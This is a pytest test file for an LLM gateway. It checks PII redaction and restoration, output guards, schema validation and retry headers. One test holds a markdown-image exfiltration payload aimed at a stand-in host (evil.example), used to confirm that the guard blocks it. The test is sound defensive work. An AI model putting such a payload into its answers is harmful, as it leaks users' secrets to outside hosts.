"""What a session does to answers: values put back, answers guarded."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from extproc.events import BodyMode, Proceed, RequestBody, ResponseBody, ResponseHeaders
from extproc.llm.sse import SseParser
from extproc.models.workers import Overloaded
from extproc.session import Session
from tests.desk import body, decide, headers
from tests.upstream import answer, said, stream

EMAIL, SSN = "jane.doe@example.com", "078-05-1120"


def redact(**more):
    return {"redact": {"entities": ["EMAIL_ADDRESS", "US_SSN"], "restore": True, **more}}


def sent(reply):
    assert isinstance(reply, Proceed), reply
    return json.loads(reply.body)


async def test_what_is_redacted_does_not_leave_and_comes_back(session_of):
    session, told = session_of(sensitivity=redact())
    reply = await decide(session, body(f"Mail {EMAIL}, SSN {SSN}. Again {EMAIL}!", user=EMAIL))
    document = sent(reply)
    text = document["messages"][0]["content"]
    assert EMAIL not in reply.body.decode()
    assert SSN not in reply.body.decode()
    assert reply.set_headers["x-ai-pool"] == "gpu-a", "what remains may go anywhere"
    assert reply.set_headers["x-ai-sensitivity"] == "restricted", "for Envoy and the pool"
    assert reply.metadata["sensitivity"] == "restricted"
    assert told.decisions[0].action == "redact"
    assert told.decisions[0].sensitivity == "restricted"
    assert document["user"] in text, "one value has one placeholder"
    call = {"id": "c", "type": "function", "function": {"name": "f"}}
    call["function"]["arguments"] = json.dumps({"to": text})
    back = await answer(session, said(text, tool_calls=[call], reasoning_content=text.lower()))
    message = json.loads(back.body)["choices"][0]["message"]
    assert message["content"] == f"Mail {EMAIL}, SSN {SSN}. Again {EMAIL}!"
    assert EMAIL in message["reasoning_content"]
    assert json.loads(message["tool_calls"][0]["function"]["arguments"])["to"] == message["content"]
    assert back.set_headers["content-length"] == str(len(back.body))
    assert EMAIL not in told.decisions[0].to_json()


async def test_a_redacted_exchange_is_not_cached(session_of):
    session, told = session_of(sensitivity=redact())
    await decide(session, body(f"Mail {EMAIL}"))
    assert told.decisions[0].cache.key is None
    assert told.decisions[0].cache.state == "bypass"


async def test_a_monitored_section_leaves_everything_in(session_of):
    session, told = session_of(sensitivity=redact() | {"mode": "monitor"})
    reply = await decide(session, body(f"Mail {EMAIL}"))
    assert reply.body is None
    assert told.decisions[0].action == "allow"
    assert [f.rule for f in told.decisions[0].findings] == ["EMAIL_ADDRESS"]


async def test_the_model_is_told_when_the_policy_says_so(session_of):
    session, _ = session_of(sensitivity=redact(note=True))
    document = sent(await decide(session, body(f"Mail {EMAIL}")))
    assert [m["role"] for m in document["messages"]] == ["system", "user"]
    assert EMAIL not in json.dumps(document)


async def test_what_cannot_be_put_in_place_of_a_name_is_refused(session_of):
    session, _ = session_of(sensitivity=redact())
    reply = await decide(session, body("Hi", metadata={EMAIL: "x"}))
    assert json.loads(reply.body)["error"]["code"] == "sensitive_data"
    assert "x-ai-sensitivity" not in dict(reply.headers), "not the client's to know"


async def test_embeddings_are_made_of_what_may_leave(session_of):
    session, told = session_of(sensitivity=redact())
    await session.receive(headers("/v1/embeddings"))
    asked = {"model": "small", "input": [f"Mail {EMAIL}", "Nothing here", f"and {EMAIL}"]}
    reply = await session.receive(RequestBody(json.dumps(asked).encode(), True))
    one, other, again = sent(reply)["input"]
    assert EMAIL not in reply.body.decode()
    assert other == "Nothing here"
    assert one.removeprefix("Mail ") == again.removeprefix("and ")
    assert told.decisions[0].action == "redact"
    assert reply.final, "there is nothing to put back in numbers"


async def test_what_is_not_redacted_keeps_its_residency(session_of):
    session, _ = session_of(sensitivity={"redact": {"entities": ["EMAIL_ADDRESS"]}})
    reply = await decide(session, body(f"Mail {EMAIL}, SSN {SSN}"))
    assert json.loads(reply.body)["error"]["code"] == "sensitive_data"


@pytest.mark.parametrize("size", [None, 1, 7, 64])
async def test_streams_come_back_with_the_values(session_of, size):
    session, _ = session_of(sensitivity=redact())
    text = sent(await decide(session, body(f"Mail {EMAIL} now", stream=True)))["messages"][0][
        "content"
    ]
    chunks = [{"index": 0, "delta": {"content": char}, "finish_reason": None} for char in text]
    chunks.append({"index": 0, "delta": {}, "finish_reason": "stop"})
    frames = [
        f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [c]})}\n\n"
        for c in chunks
    ]
    out = await stream(session, [f.encode() for f in (*frames, "data: [DONE]\n\n")], size)
    events = [json.loads(line[6:]) for line in out.decode().splitlines() if line[:7] == "data: {"]
    said = "".join(e["choices"][0]["delta"].get("content", "") for e in events)
    assert said == f"Mail {EMAIL} now"
    assert out.endswith(b"data: [DONE]\n\n")
    assert events[0]["choices"][0]["delta"]["content"] == "M", "nothing is held back without need"


SCHEMA = {
    "type": "object",
    "properties": {"score": {"type": "number", "minimum": 0, "maximum": 1}},
    "required": ["score"],
    "additionalProperties": False,
}


def chunks(text, size=3):
    pieces = [
        {"delta": {"content": text[at : at + size]}, "finish_reason": None}
        for at in range(0, len(text), size)
    ]
    choices = [{"index": 0, **c} for c in (*pieces, {"delta": {}, "finish_reason": "stop"})]
    events = [
        {"id": "x", "object": "chat.completion.chunk", "model": "m", "choices": [c]}
        for c in choices
    ]
    return [f"data: {json.dumps(e)}\n\n".encode() for e in events] + [b"data: [DONE]\n\n"]


def events_of(out):
    return [json.loads(line[6:]) for line in out.decode().splitlines() if line[:7] == "data: {"]


def spoken(out):
    return "".join(
        e["choices"][0]["delta"].get("content", "") for e in events_of(out) if e.get("choices")
    )


async def test_a_blocked_answer_is_our_error(session_of):
    session, told = session_of(output={"sensitive": "block"})
    await decide(session, body("Hi"))
    reply = await answer(session, said(f"The SSN is {SSN}."))
    assert reply.set_headers[":status"] == "403"
    error = json.loads(reply.body)["error"]
    assert error["code"] == "sensitive_data"
    assert SSN not in reply.body.decode()
    assert told.documents == []


async def test_an_answer_is_redacted(session_of):
    session, told = session_of(output={"sensitive": "redact"})
    await decide(session, body("Hi"))
    reply = await answer(session, said(f"Ask {EMAIL} now"))
    assert json.loads(reply.body)["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"
    assert told.documents[0]["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"


@pytest.mark.parametrize("size", [None, 1, 50])
async def test_a_stream_is_redacted_and_flows(session_of, size):
    session, _ = session_of(output={"sensitive": "redact"})
    await decide(session, body("Hi", stream=True))
    text = f"Ask {EMAIL} or call, the SSN is {SSN}, of course. " + "Words flow on and on. " * 9
    out = await stream(session, chunks(text), size)
    assert spoken(out) == text.replace(EMAIL, "<EMAIL_ADDRESS>").replace(SSN, "<US_SSN>")
    assert out.endswith(b"data: [DONE]\n\n")


async def test_a_block_in_mid_stream_is_an_error_and_a_proper_end(session_of):
    session, told = session_of(output={"sensitive": "block"})
    await decide(session, body("Hi", stream=True))
    text = "Some words first. " * 5 + f"The SSN is {SSN}, of course. " + "More words follow. " * 12
    out = await stream(session, chunks(text), 64)
    assert SSN not in spoken(out)
    assert "Some words first. " in spoken(out)
    assert "More words follow. More words follow" not in spoken(out)
    assert events_of(out)[-1]["error"]["code"] == "sensitive_data"
    assert out.endswith(b"data: [DONE]\n\n")
    assert told.documents == []


async def test_active_content_is_blocked_and_its_record_says_so(session_of):
    session, _ = session_of(output={"content": "block"})
    await decide(session, body("Hi"))
    reply = await answer(session, said("![x](https://evil.example/p?d=secret)"))
    assert json.loads(reply.body)["error"]["code"] == "content_policy"


@pytest.mark.parametrize(
    ("text", "passes"),
    [('{"score": 0.5}', True), ('{"score": 1.5}', False), ("0.5", False), ("no JSON", False)],
)
@pytest.mark.parametrize("streamed", [False, True])
async def test_an_answer_must_fit_the_schema_streamed_or_not(session_of, text, passes, streamed):
    session, _ = session_of(output={"json_schema": SCHEMA})
    await decide(session, body("Hi", stream=streamed))
    if streamed:
        out = await stream(session, chunks(text), 40)
        assert spoken(out) == (text if passes else "")
        assert ("error" in events_of(out)[-1]) is not passes
    else:
        reply = await answer(session, said(text))
        assert (reply.set_headers.get(":status") == "403") is not passes


async def test_a_monitored_guard_changes_nothing_and_records(session_of):
    session, _ = session_of(output={"sensitive": "block", "mode": "monitor"})
    await decide(session, body("Hi", stream=True))
    frames = chunks(f"The SSN is {SSN}. " + "x " * 80)
    assert await stream(session, frames, 33) == b"".join(frames)
    found = session._response.result().answer.findings
    assert [(f.rule, f.mode.value) for f in found] == [("US_SSN", "monitor")]


async def test_what_cannot_be_read_does_not_pass_the_guard(session_of):
    session, _ = session_of(output={"sensitive": "block"})
    await decide(session, body("Hi"))
    head = {":status": "200", "content-type": "application/json", "content-encoding": "gzip"}
    asked = await session.receive(ResponseHeaders(head, False))
    assert asked.response_body_mode is BodyMode.BUFFERED
    reply = await session.receive(ResponseBody(b"\x1f\x8b", True))
    assert reply.set_headers[":status"] == "503"
    assert json.loads(reply.body)["error"]["code"] == "inspection_unavailable"


async def test_restoring_comes_after_the_guard(session_of):
    session, _ = session_of(sensitivity=redact(), output={"sensitive": "block"})
    text = sent(await decide(session, body(f"Mail {EMAIL}")))["messages"][0]["content"]
    reply = await answer(session, said(text))
    assert json.loads(reply.body)["choices"][0]["message"]["content"] == f"Mail {EMAIL}"


async def test_a_guarded_stream_that_cannot_be_cut_into_frames_ends_in_an_error(session_of):
    session, _ = session_of(output={"sensitive": "block"})
    await decide(session, body("Hi", stream=True))
    head = ResponseHeaders({":status": "200", "content-type": "text/event-stream"}, False)
    await session.receive(head)
    session._response._relay._parser = SseParser(max_frame=100)
    reply = await session.receive(ResponseBody(b"data: " + b"x" * 200, False))
    assert b"inspection_unavailable" in reply.body
    assert reply.body.endswith(b"data: [DONE]\n\n")
    assert not reply.final
    assert (await session.receive(ResponseBody(b"data: more\n\n", True))).body == b""


async def test_an_answer_is_read_however_busy_the_workers_are(session_of):
    session, _ = session_of(output={"sensitive": "redact"})
    await decide(session, body("Hi"))

    class Full:
        async def run(self, *_):
            raise Overloaded

    session._desk = replace(session._desk, workers=Full())
    reply = await answer(session, said(f"Ask {EMAIL} " + "now " * 5000))
    assert EMAIL not in reply.body.decode()


def retrying(**more):
    return {"output": {"json_schema": SCHEMA, "retry": "client", **more}}


async def refused(session, text, *, streamed=False, **head):
    """How the client is told that the answer does not fit: status, should-retry, document."""
    await decide(session, body("Score it", stream=streamed), **head)
    if not streamed:
        reply = await answer(session, said(text))
    else:
        type_ = {":status": "200", "content-type": "text/event-stream"}
        asked = await session.receive(ResponseHeaders(type_, False))
        assert asked.response_body_mode is BodyMode.BUFFERED
        reply = await session.receive(ResponseBody(b"".join(chunks(text)), True))
        session.close()
    return reply


def output_rules(session):
    found = session._response.result().answer.findings
    return [f.rule for f in found if f.inspector == "output"]


@pytest.mark.parametrize("streamed", [False, True])
async def test_a_client_is_asked_to_come_again_once(session_of, streamed):
    first, told = session_of(**retrying())

    def another():
        return Session(first._desk)

    reply = await refused(first, "no JSON", streamed=streamed)
    assert (reply.set_headers[":status"], reply.set_headers["x-should-retry"]) == ("403", "true")
    assert json.loads(reply.body)["error"]["code"] == "content_policy"
    assert output_rules(first) == ["json_schema", "retry_asked"]
    again = another()
    reply = await refused(again, "no JSON", streamed=streamed)
    assert reply.set_headers["x-should-retry"] == "false", "it is the retry"
    assert output_rules(again) == ["json_schema"]
    reply = await refused(another(), "no JSON", streamed=streamed)
    assert reply.set_headers["x-should-retry"] == "true", "asked anew"
    ids = {d.request_id for d in told.decisions}
    assert len(ids) == 3, "each try is an exchange of its own, with its own spend"


@pytest.mark.parametrize(("count", "asked"), [("0", "true"), ("1", "false"), ("x", "false")])
async def test_who_says_that_it_is_a_retry_is_not_asked_again(session_of, count, asked):
    session, _ = session_of(**retrying())
    reply = await refused(session, "no JSON", x_stainless_retry_count=count)
    assert reply.set_headers["x-should-retry"] == asked


async def test_another_caller_is_asked_for_itself(session_of):
    first, _ = session_of(**retrying())
    await refused(first, "no JSON")
    other = await refused(Session(first._desk), "no JSON", x_ai_tenant="other")
    assert other.set_headers["x-should-retry"] == "true"


async def test_nobody_is_asked_without_the_policys_word_or_in_monitor_mode(session_of):
    session, _ = session_of(output={"json_schema": SCHEMA})
    reply = await refused(session, "no JSON")
    assert reply.set_headers["x-should-retry"] == "false"
    session, _ = session_of(**retrying(mode="monitor"))
    reply = await refused(session, "no JSON")
    assert reply.set_headers == {}
    assert output_rules(session) == ["json_schema"]


async def test_a_held_stream_that_fits_comes_whole(session_of):
    session, told = session_of(**retrying(sensitive="redact"))
    reply = await refused(session, '{"score": 0.5}', streamed=True)
    assert spoken(reply.body) == '{"score": 0.5}'
    assert reply.body.endswith(b"data: [DONE]\n\n")
    assert reply.set_headers["content-length"] == str(len(reply.body))
    assert len(told.documents) == 1


async def test_a_held_stream_that_is_refused_for_another_reason_is_not_asked_for_again(session_of):
    session, _ = session_of(**retrying(sensitive="block"))
    reply = await refused(session, f"The SSN is {SSN}.", streamed=True)
    assert SSN.encode() not in reply.body
    assert (reply.set_headers[":status"], reply.set_headers["x-should-retry"]) == ("403", "false")
    assert json.loads(reply.body)["error"]["code"] == "sensitive_data"


async def test_what_was_asked_is_forgotten_in_time():
    from extproc.inspectors.output.retries import MAX_REMEMBERED, REMEMBERED_S, Retries
    from tests.exchanges import exchange

    now = 0.0
    retries = Retries(lambda: now)

    def offered(digest="d"):
        seen = exchange(None)
        seen.prompt_hmac = digest
        return retries.offer(seen)

    assert offered()()
    now = REMEMBERED_S
    assert offered() is not None
    assert offered()()
    now += REMEMBERED_S - 1
    assert offered() is None
    assert offered(None) is None
    first, second = offered(), offered()
    assert (first(), second()) == (True, False), "of two at once, one"
    for number in range(MAX_REMEMBERED):
        assert offered(str(number))()
    assert len(retries._asked) == MAX_REMEMBERED
